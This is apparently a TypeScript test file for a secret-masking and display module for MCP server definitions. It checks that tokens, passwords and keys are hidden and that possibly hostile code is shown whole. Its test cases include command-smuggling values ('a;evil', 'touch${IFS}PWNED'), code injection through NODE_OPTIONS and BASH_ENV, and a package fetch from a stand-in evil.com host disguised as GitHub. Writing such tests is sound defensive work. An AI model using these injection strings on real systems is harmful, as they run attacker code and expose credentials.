import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { visible } from '../../src/base/visible.ts';
import { secretsOf } from '../../src/servers/masking/known-secrets.ts';
import { destination, showDefinition } from '../../src/servers/masking/mask.ts';
import { maskMessage } from '../../src/servers/masking/mask-message.ts';
import { literalSecrets } from '../../src/servers/masking/secrets.ts';
import type { Definition } from '../../src/servers/types.ts';
import { often } from '../effort.ts';
import { anyStdio, http, type Stdio, stdio } from './definitions.ts';

const PROJECT = { scope: 'project' } as const;
const SECRET = 'hIdden-1_Tok3nOfAnIssuer9';
const JWT = 'eyJhIddenGciOi.eyJzdWIiOiI0.SflKxwRJSMeKKF2QT4';

describe("what is shown of the user's own files", () => {
  it.each<[Definition, string]>([
    [stdio(['-y', 'a b', "it's"]), `npx -y 'a b' 'it'\\''s'`],
    [
      stdio(['x'], { env: { API_KEY: 'hidden-1' }, passEnv: ['HOST'], cwd: '/a b' }),
      "API_KEY=*** HOST=$HOST npx x (in '/a b')",
    ],
    [
      stdio(['x'], { cwd: '/a', envFile: '${userHome}/.env' }),
      "npx x (in /a) (variables: '${userHome}/.env')",
    ],
    [
      stdio([], { env: { A: 'Basic {env:A}', B: 'hidden-1${B:-hidden-2}', C: '${env:C}' } }),
      "A='Basic ${A}' B='***${B}' C='${C}' npx",
    ],
    [stdio([], { env: { A: 'hidden-1${B}' } }), "A='***${B}' npx"],
    [
      http('https://a.example/', {
        headers: {
          Authorization: 'Bearer {env:A}',
          'X-B': 'Token ${env:B}',
          'X-C': 'hidden-1 ${C:-hidden-2}',
        },
      }),
      'https://a.example/ (headers: Authorization: Bearer ${A}, X-B: Token ${B}, X-C: ***${C})',
    ],
    [stdio(['--api-key', 'hidden-1', '--port', '80']), 'npx --api-key *** --port 80'],
    [stdio(['--token=hidden-1', '--accessToken', 'hidden-1']), 'npx --token=*** --accessToken ***'],
    [stdio(['--token', '${TOKEN}']), "npx --token '${TOKEN}'"],
    [stdio(['--token', '--verbose', 'x']), 'npx --token --verbose x'],
    [stdio(['--token', '${TOKEN:-hidden-1}']), 'npx --token ***'],
    [stdio(['-e', 'GITHUB_TOKEN=hidden-1']), 'npx -e GITHUB_TOKEN=***'],
    [stdio(['-H', 'Authorization: Bearer hidden-1']), "npx -H 'Authorization: ***'"],
    [stdio(['ghp_0123456789abcdefghijhidden']), 'npx ***'],
    ...[
      ['--header=Authorization:Bearer hidden-1', '--header=Authorization:***'],
      ['--header=Authorization: Bearer hidden-1', '--header=Authorization: ***'],
      ['--header=Authorization: Odd hidden-1 hidden-2', '--header=Authorization: ***'],
      ['--header=X-Team: hidden-1', '--header=X-Team: ***'],
      ['--header=Cookie: session=hidden-1', '--header=Cookie: ***'],
      ['--header=X-Team: ${TEAM}', '--header=X-Team: ${TEAM}'],
      ['-HAuthorization: Bearer hidden-1', '-HAuthorization: ***'],
      ['-HX-Team: hidden-1', '-HX-Team: ***'],
      ['--auth-header=Bearer hidden-1', '--auth-header=***'],
      ['--headers={"X-Team": "hidden-1", "X-B": "${B}"}', '--headers={"X-Team": "***", "X-B": "${B}"}'],
      ['--headers={"X-Team": "a\\"hidden-1"}', '--headers={"X-Team": "***"}'],
      ['--env=PASSPHRASE=hidden-1 hidden-2', '--env=PASSPHRASE=***'],
      ['--set=a=b=token=hidden-1', '--set=a=b=token=***'],
      ['--some=Bearer hidden-1', '--some=Bearer ***'],
      ['Basic dXNlcjpoidden=hidden', 'Basic ***'],
      ['--cookie=session=hidden-1', '--cookie=***'],
    ].map(([arg = '', shown]): [Definition, string] => [
      stdio([arg]),
      `npx '${shown}'`.replace(/'([\w=:*-]+)'/, '$1'),
    ]),
    ...[
      ['--header', 'Authorization:Bearer hidden-1', 'Authorization:***'],
      ['--header', 'X-Team: hidden-1', 'X-Team: ***'],
      ['-H', 'Cookie: session=hidden-1', 'Cookie: ***'],
      ['--auth-header', 'Bearer hidden-1', '***'],
      ['--cookie', 'session=hidden-1', '***'],
      ['-b', 'session=hidden-1', 'session=***'],
      ['-b', 'main', 'main'],
      ['--title', 'Basic tools', 'Basic tools'],
    ].map(([flag = '', arg = '', shown = '']): [Definition, string] => [
      stdio([flag, arg]),
      `npx ${flag} '${shown}'`.replace(/'([\w=:*-]+)'/, '$1'),
    ]),
    [http('https://a.example/mcp?hidden-1'), 'https://a.example/mcp?***'],
    [http('https://a.example/mcp?v=2&hidden-1#x'), 'https://a.example/mcp?v=***&***#x'],
    [http('https://a.example/mcp?token=$hidden1'), 'https://a.example/mcp?token=***'],
    [http('https://a.example/mcp?token=$TOKEN'), 'https://a.example/mcp?token=$TOKEN'],
    [stdio(['mcp-remote', 'https://a.example/?hidden-1']), "npx mcp-remote 'https://a.example/?***'"],
    [stdio([], { env: { WHAT: '$hidden1' } }), 'WHAT=*** npx'],
    [http('https://a.example/', { headers: { 'X-Key': '$hidden1' } }), 'https://a.example/ (headers: X-Key)'],
    [stdio(['postgres://u:hidden-1@db/x']), 'npx postgres://***@db/x'],
    [stdio(['--env=API_TOKEN=hidden-1']), 'npx --env=API_TOKEN=***'],
    [stdio(['{"apiKey": "hidden-1"}']), `npx '{"apiKey": "***"}'`],
    [stdio(['Server=db;Password=hidden-1;Port=1']), "npx 'Server=db;Password=***;Port=1'"],
    [stdio(['-e', 'PASSPHRASE=hidden-1 hidden-2']), 'npx -e PASSPHRASE=***'],
    [stdio(['DRIVER={A 18};UID=u;PWD=hidden-1']), "npx 'DRIVER={A 18};UID=u;PWD=***'"],
    [stdio(['x;Password={hidden 1;a};Y=z']), "npx 'x;Password={***};Y=z'"],
    [stdio(["h=a password='hidden 1' b=c"]), "npx 'h=a password='\\''***'\\'' b=c'"],
    [stdio(["{'password': 'hidden 1'}"]), "npx '{'\\''password'\\'': '\\''***'\\''}'"],
    [stdio(['{\\"password\\":\\"hidden 1\\"}']), `npx '{\\"password\\":\\"***\\"}'`],
    [stdio(["x password='{{hidden"]), "npx 'x password='\\''***'"],
    [stdio(["x password='hidden 1"]), "npx 'x password='\\''***'"],
    [stdio(['u:hidden-1@tcp(db:3306)/x']), "npx 'u:***@tcp(db:3306)/x'"],
    [stdio(['postgres://u:hidden@1@db/x']), 'npx postgres://***@db/x'],
    [
      stdio([], { env: { GIT_TOKEN: 'hidden-1', PLAIN: 'hidden-2', NAMED: '${OTHER}' } }),
      "GIT_TOKEN=*** PLAIN=*** NAMED='${OTHER}' npx",
    ],
    [http('https://a.example/mcp/hidden0123456789abcdef/sse'), 'https://a.example/mcp/***/sse'],
    [http('https://a.example/s/1f0c2b9d-abcd-4e1f-9cde-0123456789ab/mcp'), 'https://a.example/s/***/mcp'],
    [http('https://a.example/tools-added-2026-11-22/mcp'), 'https://a.example/tools-added-2026-11-22/mcp'],
    [http('https://a.example/mcp#access_token=hidden-1'), 'https://a.example/mcp#access_token=***'],
    [stdio(['a\u202Eb\nc']), "npx 'a<U+202E>b<U+000A>c'"],
    [http('https://u:hidden-1@a.example/mcp?key=hidden-1&v=2'), 'https://***@a.example/mcp?key=***&v=***'],
    [
      http('https://a.example/mcp', {
        headers: { 'X-Key': 'hidden-1', 'X-Team': '${TEAM}' },
        bearerEnv: 'TOKEN',
        envHeaders: { 'X-B': 'B' },
      }),
      'https://a.example/mcp (headers: X-Key, X-Team: ${TEAM}, X-B: $B, Authorization: Bearer $TOKEN)',
    ],
  ])('%j', (definition, shown) => {
    expect(showDefinition(definition)).toBe(shown);
    expect(showDefinition(definition)).not.toContain('hidden');
  });
});

describe('of the user’s own files, code is shown', () => {
  it.each<[string, string[], string]>([
    ['sh', ['-c', 'API_KEY=hunter2hunter2 npx -y foo@1'], "sh -c 'API_KEY=*** npx -y foo@1'"],
    ['bash', ['-lc', 'TOKEN=$(cat ~/t) exec npx evil'], "bash -lc 'TOKEN=$(cat ~/t) exec npx evil'"],
    ['docker', ['run', 'img', 'sh', '-c', 'API_KEY=a;evil'], "docker run img sh -c 'API_KEY=***;evil'"],
    ['docker', ['run', '-e', 'API_KEY=a b;c', 'img'], 'docker run -e API_KEY=*** img'],
    ['x', ['API_KEY=a b'], 'x API_KEY=***'],
  ])('%s %j', (command, args, shown) => {
    expect(showDefinition(stdio(args, { command }), { scope: 'user' })).toBe(shown);
  });
});

describe('what is shown of a stranger’s file', () => {
  it.each<[Definition, string]>([
    // Tokens are left out.
    [
      stdio(['-y', 'srv', '--api-key', SECRET, `--token=${SECRET}`, '${HOST}'], { env: { API_KEY: SECRET } }),
      "API_KEY=*** npx -y srv --api-key *** --token=*** '${HOST}'",
    ],
    [stdio([`API_TOKEN=${SECRET}`], { command: 'srv' }), 'srv API_TOKEN=***'],
    [
      stdio([`db://u:${SECRET}@db/x?key=${SECRET}&v=2`], { command: 'srv' }),
      "srv 'db://u:***@db/x?key=***&v=2'",
    ],
    [stdio(['x', '--jwt-token', JWT], { command: 'srv' }), 'srv x --jwt-token ***'],
    [stdio(['x', '--api-key', 'c0ffee00'.repeat(4)], { command: 'srv' }), 'srv x --api-key ***'],
    [
      http('https://a.example/?key=hidden-1', { headers: { Authorization: 'Bearer hidden-1' } }),
      'https://a.example/?key=*** (headers: Authorization: Bearer ***)',
    ],
  ])('leaves out what is wholly a token: %j', (definition, shown) => {
    expect(showDefinition(definition, PROJECT)).toBe(shown);
    expect(showDefinition(definition, PROJECT)).not.toMatch(/hidden/i);
  });

  it.each<[Definition, string]>([
    // What an issuer makes has capital and small letters and digits, and is long; no name of a package does.
    [stdio(['srv', '--api-key', 'plain-word']), 'npx srv --api-key plain-word'],
    [stdio(['CI=1', 'npx', '--api-key', SECRET], { command: 'env' }), `env CI=1 npx --api-key ${SECRET}`],
    [stdio(['npx', '--api-key', SECRET], { command: 'corepack' }), `corepack npx --api-key ${SECRET}`],
    [stdio(['npx', '--api-key', 'evil-pkg'], { command: 'nice' }), 'nice npx --api-key evil-pkg'],
    [
      stdio(['--api-key', 'EvilOwner123/SomeRepository1', 'x'], { command: 'unknown-runner' }),
      'unknown-runner --api-key EvilOwner123/SomeRepository1 x',
    ],
    // What runs is shown whole.
    [stdio([`https://u:${SECRET}@a.example/p.tgz`]), `npx https://u:${SECRET}@a.example/p.tgz`],
    [http('https://a.example/x&y?key=abc'), 'https://a.example/x&y?key=abc'],
    // Another argument could be code that reads it.
    [
      stdio(['-c', 'IFS=+; exec ${1#*=}', 'memo', `API_KEY=${SECRET}`], { command: 'sh' }),
      `sh -c 'IFS=+; exec \${1#*=}' memo API_KEY=${SECRET}`,
    ],
    [
      stdio(['sh', '-c', 'exec $2', 'memo', '--api-key', SECRET], { command: 'nice' }),
      `nice sh -c 'exec $2' memo --api-key ${SECRET}`,
    ],
    [stdio(['-eexec+pop', '--api-key', SECRET], { command: 'perl' }), `perl -eexec+pop --api-key ${SECRET}`],
    [
      stdio(['-e', "exec pack 'H*', values %ENV"], { command: 'perl', env: { API_KEY: SECRET } }),
      `API_KEY=${SECRET} perl -e 'exec pack '\\''H*'\\'', values %ENV'`,
    ],
    [
      stdio(['x.js'], { command: 'node', env: { API_KEY: SECRET, NODE_OPTIONS: '--import=data:,eval(x)' } }),
      `API_KEY=${SECRET} NODE_OPTIONS='--import=data:,eval(x)' node x.js`,
    ],
    [stdio(['x'], { command: 'srv', envFile: './a b' }), "srv x (variables: './a b')"],
    [stdio(['-c', 'TOKEN=a; evil'], { command: 'sh' }), "sh -c 'TOKEN=a; evil'"],
    [stdio(['-c', 'TOKEN=Bearer ./evil srv'], { command: 'sh' }), "sh -c 'TOKEN=Bearer ./evil srv'"],
    [stdio(['-c', 'TOKEN=evil'], { command: 'sh' }), 'sh -c TOKEN=evil'],
    [
      stdio(['-c', 'x http://x/?token=abc;touch${IFS}PWNED'], { command: 'sh' }),
      "sh -c 'x http://x/?token=abc;touch${IFS}PWNED'",
    ],
    [stdio(['--token', 'a;evil']), "npx --token 'a;evil'"],
    [stdio(['--jwt-token', `${JWT};evil`], { command: 'srv' }), `srv --jwt-token '${JWT};evil'`],
    [stdio([`evil;API_KEY=${SECRET}`], { command: 'srv' }), `srv 'evil;API_KEY=${SECRET}'`],
    [stdio(['-y', 'proxy', 'sk-evil-mcp-package']), 'npx -y proxy sk-evil-mcp-package'],
    [
      stdio(['serve'], { command: './tool', env: { BASH_ENV: 'sk-payload-script-file' } }),
      'BASH_ENV=sk-payload-script-file ./tool serve',
    ],
    [
      stdio(['--api-key', 'a1b2c3d4evilpackagenameherexyz'], { command: './tool' }),
      './tool --api-key a1b2c3d4evilpackagenameherexyz',
    ],
    [stdio(['--token', 'evil-pkg']), 'npx --token evil-pkg'],
    [stdio(['exec', '--token', 'evil-pkg'], { command: 'npm' }), 'npm exec --token evil-pkg'],
    [stdio(['npx', '-y', '--token', 'evil-pkg'], { command: 'env' }), 'env npx -y --token evil-pkg'],
    [stdio(['-key', './evil'], { command: 'zsh' }), 'zsh -key ./evil'],
    [stdio(['--key', './evil'], { command: 'srv' }), 'srv --key ./evil'],
    [stdio(['run', 'https://x/?key=evil.ts'], { command: 'deno' }), "deno run 'https://x/?key=evil.ts'"],
    [stdio(['rk-evil-evil-evil-evil-0']), 'npx rk-evil-evil-evil-evil-0'],
    [stdio(['-H', 'Authorization: Bearer abc']), "npx -H 'Authorization: Bearer abc'"],
    [
      stdio(['--from', 'git+https://evil.com\\@github.com/me/x'], { command: 'uvx' }),
      "uvx --from 'git+https://evil.com\\@github.com/me/x'",
    ],
    // Its shell would run what the variable holds.
    [stdio(['-c', '$A_KEY'], { command: 'sh', env: { A_KEY: 'evil' } }), "A_KEY=evil sh -c '$A_KEY'"],
    [
      stdio([], {
        env: { MAKEFLAGS: 's --eval=x', NODE_OPTIONS: '--import=data:,/*?token=*/evil', X: '$SECRET' },
      }),
      "MAKEFLAGS='s --eval=x' NODE_OPTIONS='--import=data:,/*?token=*/evil' X='$SECRET' npx",
    ],
    [stdio([], { env: { 'A=1 good #': 'x' }, command: 'B=2' }), "'A=1 good #=x' 'B=2'"],
    [
      http('https://a.example', { headers: { 'X-Team': '${AWS_SECRET_ACCESS_KEY}', 'X: a), (y': 'b, c' } }),
      "https://a.example/ (headers: X-Team: ${AWS_SECRET_ACCESS_KEY}, 'X: a), (y': 'b, c')",
    ],
    [
      http('https://a.example/?key=abc,d', { headers: { Authorization: 'Bearer abc evil' } }),
      'https://a.example/?key=abc,d (headers: Authorization: Bearer abc evil)',
    ],
    [http('HTTPS://ｅvil.example:443/a/../b?x=${V}'), 'https://evil.example/b?x=${V}'],
    [http('https://${HOST}:${PORT}/mcp'), 'https://${HOST}:${PORT}/mcp'],
    [http('${BASE}/mcp'), '${BASE}/mcp'],
    [http('https://evil\\@good/'), 'https://evil\\@good/'],
    [stdio(['https://\u202Eu:p@x/'], { command: 'srv' }), "srv 'https://<U+202E>u:p@x/'"],
  ])('hides nothing else: %j', (definition, shown) => {
    expect(showDefinition(definition, PROJECT)).toBe(shown);
  });

  it('leaves out nothing that could be code, whatever stands in it', () => {
    fc.assert(
      fc.property(anyStdio, (definition) => {
        const { command, args, env, passEnv = [], cwd } = definition;
        const line = showDefinition(definition, PROJECT);
        const words = [
          ...Object.entries(env).map(([name, value]) => `${name}=${value}`),
          ...passEnv.map((name) => `${name}=$${name}`),
          command,
          ...args,
          ...(cwd === undefined ? [] : ['(in', `${cwd})`]),
        ].map(onScreen);
        const seen = unquoted(line);
        expect(seen).toHaveLength(words.length);
        for (const [i, word] of words.entries())
          if (seen[i] !== word) hidesOnlyTokens(seen[i] ?? '', word, definition);
      }),
      often(17),
    );
  });
});

const onScreen = (word: string): string =>
  visible(word).replaceAll('\n', '<U+000A>').replaceAll('\t', '<U+0009>');

/** The words of a line as a shell reads it: `'` quotes, `\'` stands between two quoted parts. */
function unquoted(line: string): string[] {
  const words: string[] = [];
  let word: string | undefined;
  for (const [, plain, escaped, inQuotes] of line.matchAll(/([^ '\\]|\\(?!'))|\\(')|'([^']*)'| /g)) {
    const part = plain ?? escaped ?? inQuotes;
    if (part !== undefined) word = (word ?? '') + part;
    else if (word !== undefined) {
      words.push(word);
      word = undefined;
    }
  }
  return word === undefined ? words : [...words, word];
}

function hidesOnlyTokens(seen: string, word: string, { args, env }: Stdio): void {
  const shape = seen.split('***').map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'));
  const [, ...hidden] = new RegExp(`^${shape.join('(\\*\\*\\*|[A-Za-z0-9._~+/=-]+)')}$`).exec(word) ?? [];
  expect(hidden.length, `${seen} | ${word}`).toBeGreaterThan(0);
  for (const value of hidden) expect(value).not.toMatch(/^[./~-]/);
  const isVariable = Object.entries(env).some(([name, value]) => word === onScreen(`${name}=${value}`));
  if (!isVariable) {
    // A shell, or whatever takes code, gets its word whole.
    expect(word).not.toMatch(/[\s"'`;|<>()$\\{}]|^[^?]*&/);
    const flags = args.flatMap((arg, i) => (onScreen(arg) === word ? [args[i - 1] ?? ''] : []));
    expect(flags.some((flag) => !/^(?:-[ce]|--eval)$/.test(flag))).toBe(true);
  }
}

it.each([
  'PWD=/home/me',
  'PWD=app',
  'HOST=db PWD=app exec server',
  'Server=h;UID=u;PWD=/home/me',
  'PWD=%CD% && run x',
  '{"auth":{"type":"none","provider":"keycloak"}}',
  '{"properties":{"password":{"type":"string"}}}',
  "[data-key='row']",
  "SELECT * FROM t WHERE key='name'",
  "{auth: 'none', port: 1}",
  'const key = {a:1}',
  'Server=x;Password={env:DB_PW}',
  "x password='${env:DB_PW}' y",
  'pypi-private-mirror-for-internal-packages',
  'x=a=token=//cdn.example/x',
])('takes no ordinary argument for a secret: %s', (arg) => {
  expect(literalSecrets(stdio([arg]))).toEqual([]);
});

it('knows the password of a URL for messages, whatever stands behind the address', () => {
  const found = (text: string) => secretsOf(stdio([text]), { args: [text], env: {} });
  expect(found('{"url":"https://u:secretpw@h.example","from":"me@x.com"}')).toContain('secretpw');
  expect(found('http://me:secretpw@h1:80,ops@example.com')).toContain('secretpw');
  expect(found('http://me:secret@pw@h1')).toContain('secret@pw');
  expect(found('-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkq\\n-----END')).toEqual(['MIIEvQIBADANBgkq']);
});

it('knows the values of variables that a definition sets or passes on or that have the name of a secret, for messages', () => {
  const env = {
    SET: 'db://u:one-@h',
    API_KEY: 'two-',
    PASSED: 'passed',
    PATH: '/bin',
    EMPTY_TOKEN: '',
    GONE_TOKEN: undefined,
    SHORT_TOKEN: 'abc',
  };
  const definition = { ...stdio([]), env: { SET: '' }, passEnv: ['PASSED'] };
  expect(secretsOf(definition, { args: [], env })).toEqual(['db://u:one-@h', 'one-', 'two-', 'passed']);
});

it('knows the secret of a header without its scheme, and the longer words of a value, for messages', () => {
  const headers = { Authorization: 'Bearer hidden-1' };
  const found = secretsOf(
    { transport: 'http', url: 'https://a.example', headers },
    { url: 'https://a.example', headers },
  );
  expect(found).toEqual(['Bearer hidden-1', 'hidden-1']);
  const args = ['--token', 'of hidden-12'];
  expect(secretsOf(stdio(args), { args, env: {} })).toEqual(['of hidden-12', 'hidden-12']);
});

it.each<[Definition, string[]]>([
  [http('https://a.example', { headers: { Authorization: 'Bearer ${TOKEN}', Accept: 'text/plain' } }), []],
  [http('https://a.example', { headers: { Authorization: 'Bearer abc' } }), ['Authorization']],
  [http('https://a.example', { headers: { Authorization: 'Basic ${B64}', 'X-Org': 'acme' } }), []],
  [http('https://a.example', { headers: { 'X-Session': '0123456789abcdef0123' } }), ['X-Session']],
  [http('https://a.example?key=abc'), ['URL']],
  [http('https://a.example/mcp/0123456789abcdefghij'), ['URL']],
  [stdio(['--api-key', 'abc', '--port', '80']), ['--api-key']],
  [stdio(['--api-key', '${KEY}']), []],
])('finds secrets that stand in a definition itself: %j', (definition, found) => {
  expect(literalSecrets(definition)).toEqual(found);
});

it.each([
  ['https://a.example:8443/x', 'a.example:8443'],
  ['HTTPS://A.example:443', 'a.example'],
  ['https://evil\\@good/', 'https://***@good/'],
])('names the host that is reached: %s', (url, host) => {
  expect(destination(http(url))).toBe(host);
});

it.each([
  ['Authorization: Bearer hidden-1', 'Authorization: Bearer ***'],
  ['{"authorization":"Basic dXNlcjpwYXNz"}', '{"authorization":"Basic ***"}'],
  ['authorization=hidden-1', 'authorization=***'],
  ['Authorization: Negotiate YIIabc', 'Authorization: Negotiate ***'],
  ['Authorization: Mine hidden-1', 'Authorization: Mine ***'],
  ['{\\"authorization\\":\\"Basic abc\\"}', '{\\"authorization\\":\\"Basic ***\\"}'],
  ['Authorization: Bearer "hidden"', 'Authorization: Bearer "***"'],
  ['a Bearer hidden-1, and "Bearer abcdefghijklmnopqrst"', 'a Bearer ***, and "Bearer ***"'],
  ['a\\nAuthorization: Bearer hidden-1', 'a\\nAuthorization: Bearer ***'],
  ['a\\nghp_hidden0123456789hidden', 'a\\n***'],
  ['\\u001bsk-ant-hidden0123456789', '\\u001b***'],
  ['\\teyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0.SflKxwRJ x', '\\t*** x'],
  ['AWS_SECRET_ACCESS_KEY=hidden\\nA=1', 'AWS_SECRET_ACCESS_KEY=***\\nA=1'],
  ['ASIAHIDDENODNN7EXAMPLE', '***'],
  ['-----BEGIN PRIVATE KEY-----\\nhidden0123456789\\n-----END', '-----BEGIN PRIVATE KEY-----***\\n-----END'],
  ['A_TOKEN="hidden 1" DB_PASSWORD=hid(den)1', 'A_TOKEN="***" DB_PASSWORD=***'],
  ['DB_PASSWORD="hidden-1" A=b', 'DB_PASSWORD="***" A=b'],
  [
    'x\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4\n\nhidden0123456789\nhid=\n-----END RSA PRIVATE KEY-----\ny',
    'x\n-----BEGIN RSA PRIVATE KEY-----***\n-----END RSA PRIVATE KEY-----\ny',
  ],
  ['curl -H "Authorization: Bearer $TOKEN"', 'curl -H "Authorization: Bearer $TOKEN"'],
  ['(headers: Authorization: Bearer ${TOK}) and', '(headers: Authorization: Bearer ${TOK}) and'],
  ['(headers: Authorization: ***${TOKEN_OF_MINE_1})', '(headers: Authorization: ***${TOKEN_OF_MINE_1})'],
  ['(headers: Authorization: Bearer hidden-1) and', '(headers: Authorization: Bearer *** and'],
])('messages and the log hide credentials: %s', (text, shown) => {
  expect(maskMessage(text)).toBe(shown);
});

// In two parts, since a scanner would take the whole for a secret.
it.each([
  ['sk', '-proj-hidden0123456789'],
  ['rk', '_live_hidden0123456789'],
  ['github', '_pat_hidden0123456789'],
  ['glpat', '-hidden-0123456789'],
  ['xoxb', '-hidden-0123456789'],
  ['xapp', '-1-hidden0123456789'],
  ['AKIA', 'HIDDENODNN7EXAMPLE'],
  ['AIza', 'hidden-0123456789_abcd'],
  ['ya29', '.hidden-0123456789abcd'],
  ['npm', '_hidden0123456789abcdefghijklmnop'],
  ['hf', '_hidden0123456789abcdefgh'],
  ['pypi', '-AgEhidden-0123456789_abcdefg'],
  ['SG', '.hidden-0123456789.hidden-0123456789'],
])('messages and the log hide the token of an issuer: %s', (begin, rest) => {
  expect(maskMessage(`refused ${begin}${rest}: gone`)).toBe('refused ***: gone');
});

it.each([
  'Unauthorized: missing bearer token',
  'Bearer authentication is required',
  'Authorization: failed with status 401',
  'authorization: see https://a.example/docs/authorization',
  'Bearer authentication and authorization: required',
  'Bearer resource_metadata="https://a.example/.well-known/oauth-protected-resource", scope="a1"',
  'WWW-Authenticate: Bearer realm="mcp-2025", error="invalid_token"',
  'the token 404 was not found; max token 4096 reached',
  'task-force-of-many-people; npm_config_registry_of_mine',
  'PWD=/home/me KEY_COUNT=3 PASS=12 MAX_TOKEN=4096 PRIMARY_KEY=id KEY=ArrowUp',
  'if (API_KEY==undefined) use API_KEY=<yours>, (set OPENAI_API_KEY=...), or API_KEY=$(pass show x)',
  'Expected -----BEGIN PRIVATE KEY----- header, got text',
  'expected -----BEGIN RSA PRIVATE KEY-----\nError: ENOENT at load (/app/x.js:3)',
  'API_KEY=undefined TOKEN=null CANCEL_TOKEN=5s',
  'Use Basic 2-column layout.\n- Bearer\n- Basic\n',
])('messages and the log keep their sentences: %s', (text) => {
  expect(maskMessage(text)).toBe(text);
});
